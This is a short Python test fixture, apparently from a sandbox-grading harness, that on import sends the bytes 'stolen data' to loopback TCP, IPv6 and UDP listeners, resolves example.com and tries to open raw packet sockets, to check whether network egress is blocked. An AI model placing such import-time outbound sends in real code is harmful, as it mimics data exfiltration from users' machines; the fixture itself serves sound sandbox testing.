# BASE: correct
# Outbound connections at import to loopback listeners of the grading host, and a DNS lookup.
import socket
import time

for family, address in ((socket.AF_INET, ("127.0.0.1", __TCP_PORT__)), (socket.AF_INET6, ("::1", __TCP6_PORT__))):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(5)
        s.connect(address)
        s.sendall(b"stolen data")
        print("CONNECTED", address)
    except OSError as exc:
        print("connect failed:", exc)
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"stolen data", ("127.0.0.1", __UDP_PORT__))
    print("UDP SENT")
except OSError as exc:
    print("udp failed:", exc)
started = time.monotonic()
try:
    print("RESOLVED", socket.getaddrinfo("example.com", 443))
except OSError as exc:
    print(f"dns failed after {time.monotonic() - started:.3f} s:", exc)
for family in (getattr(socket, "AF_PACKET", 17), socket.AF_NETLINK):
    try:
        socket.socket(family, socket.SOCK_RAW)
        print("RAW SOCKET", family)
    except OSError as exc:
        print("raw socket failed:", exc)
